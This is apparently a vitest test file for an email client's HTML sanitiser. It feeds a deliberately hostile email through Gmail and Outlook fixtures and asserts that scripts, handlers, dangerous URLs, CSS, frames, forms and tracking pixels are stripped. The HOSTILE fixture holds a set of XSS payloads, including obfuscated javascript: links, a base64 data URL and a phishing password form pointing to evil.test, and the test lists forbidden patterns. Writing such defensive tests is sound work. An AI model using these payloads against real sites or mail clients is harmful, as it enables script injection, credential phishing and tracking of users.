// Hostile body HTML through the real body-on-demand path of both providers: scripts, event
// handlers, javascript:/data: links (obfuscated too), CSS tricks (<style>, @import, style=
// overlays, background images) and tracking pixels. What tl.messages.body returns must carry
// none of it, block remote images by default, and keep the readable text.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { connectedWorld, type ConnectedWorld } from '../src/fixture.js';

const HOSTILE = `
<html><head><title>t</title><meta http-equiv="refresh" content="0;url=https://evil.test/"><base href="https://evil.test/">
<link rel="stylesheet" href="https://tracker.test/x.css">
<style>@import url(https://tracker.test/import.css); body { display:none } .x { background:url(https://tracker.test/css.png) }</style></head>
<body onload="alert('body')">
<p>Visible text one</p>
<script>alert('script')</script><SCRIPT SRC=https://evil.test/x.js></SCRIPT>
<img src="x" onerror="alert('img')"><IMG SRC=JaVaScRiPt:alert('XSS')>
<img src="https://tracker.test/pixel.gif?id=42" width="1" height="1" alt="">
<img src="//tracker.test/protocol-relative.gif"><img srcset="https://tracker.test/srcset.png 1x">
<a href="javascript:alert('link')">js link</a>
<a href="jav&#x09;ascript:alert('tab')">tab link</a>
<a href=" &#14; javascript:alert('ctl')">ctl link</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>
<a href="vbscript:msgbox(1)">vb link</a>
<a href="https://ok.test/page" onclick="steal()" onmouseover="steal()">Visible link</a>
<div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;background:url(https://tracker.test/overlay.png)">Overlay text</div>
<span style="expression(alert('ie'))">old IE</span>
<table background="https://tracker.test/table.png"><tr><td background="https://tracker.test/td.png">Cell text</td></tr></table>
<iframe src="https://evil.test/frame"></iframe><object data="https://evil.test/o.swf"></object><embed src="https://evil.test/e.swf">
<svg onload="alert('svg')"><script>alert('svg-script')</script></svg>
<math><mi xlink:href="javascript:alert('math')">m</mi></math>
<form action="https://evil.test/phish"><input name="password" type="password"><button>Sign in</button></form>
<video poster="https://tracker.test/poster.png"></video><audio src="https://tracker.test/a.mp3"></audio>
<!--[if gte mso 9]><script>alert('mso')</script><![endif]-->
<noscript><img src="https://tracker.test/noscript.gif"></noscript>
<p>Visible text two</p>
</body></html>`;

let fixture: ConnectedWorld;
const ids: Array<{ provider: string; messageId: string }> = [];

beforeAll(async () => {
  fixture = await connectedWorld({ seed: 71 });
  const { world, gmail, outlook, gmailEmail, outlookEmail } = fixture;
  const google = await world.google.deliver({ from: 'buyer@bigco.test', to: gmailEmail, subject: 'Hostile HTML', html: HOSTILE, text: 'fallback' });
  const microsoft = await world.microsoft.deliver({ from: 'buyer@bigco.test', to: outlookEmail, subject: 'Hostile HTML', html: HOSTILE });
  await world.settle();
  ids.push({ provider: 'gmail', messageId: (await world.backend.primary.getMessageByProviderId(gmail.id, google.id))!.id });
  ids.push({ provider: 'outlook', messageId: (await world.backend.primary.getMessageByProviderId(outlook.id, microsoft.immutableId))!.id });
});
afterAll(() => fixture.world.close());

describe.each(['gmail', 'outlook'])('body on demand from %s', (provider) => {
  const body = (allowRemoteImages = false) =>
    fixture.world.any().tl.messages.body(ids.find((entry) => entry.provider === provider)!.messageId, {
      tenantId: fixture.world.tenantId,
      as: 'admin',
      format: 'html',
      allowRemoteImages,
    });

  it('carries no script, handler, dangerous URL, CSS, frame, form or remote load — and keeps the text', async () => {
    const { html } = await body();
    expect(html).not.toBeNull();
    const out = html!;
    for (const text of ['Visible text one', 'Visible text two', 'Visible link', 'Overlay text', 'Cell text']) expect(out).toContain(text);
    for (const forbidden of [
      /<script/i,
      /<style/i,
      /<link/i,
      /<meta/i,
      /<base/i,
      /<iframe/i,
      /<object/i,
      /<embed/i,
      /<svg/i,
      /<math/i,
      /<form/i,
      /<input/i,
      /<video/i,
      /<audio/i,
      /<noscript/i,
    ]) {
      expect(out).not.toMatch(forbidden);
    }
    expect(out).not.toMatch(/\son[a-z]+\s*=/i);
    expect(out).not.toMatch(/javascript:|vbscript:|data:text\/html|expression\(/i);
    expect(out).not.toMatch(/\sstyle\s*=|@import|url\(/i);
    expect(out).not.toMatch(/\s(background|srcset|poster|action|xlink:href)\s*=/i);
    expect(out).not.toContain('alert(');
    // Nothing loads from elsewhere by default: remote images are parked in data-blocked-src.
    for (const match of out.matchAll(/<img\b[^>]*>/gi)) expect(match[0]).not.toMatch(/\ssrc\s*=\s*["']?(https?:)?\/\//i);
    expect(out).toContain('data-blocked-src="https://tracker.test/pixel.gif?id=42"');
    // Links that survive open safely.
    for (const match of out.matchAll(/<a\b[^>]*href[^>]*>/gi)) {
      expect(match[0]).toMatch(/href="(https:\/\/ok\.test\/page)"/);
      expect(match[0]).toMatch(/rel="noopener noreferrer nofollow"/);
    }
  });

  // Regression: allowRemoteImages was a no-op — the adapter had already parked every remote image
  // in data-blocked-src, and re-sanitising with the option on could not bring it back.
  it('loads remote images only when the host asks for them', async () => {
    const { html } = await body(true);
    expect(html).toMatch(/<img[^>]*\ssrc="https:\/\/tracker\.test\/pixel\.gif\?id=42"/);
    expect(html).not.toMatch(/<script|\son[a-z]+\s*=|javascript:/i);
  });
});
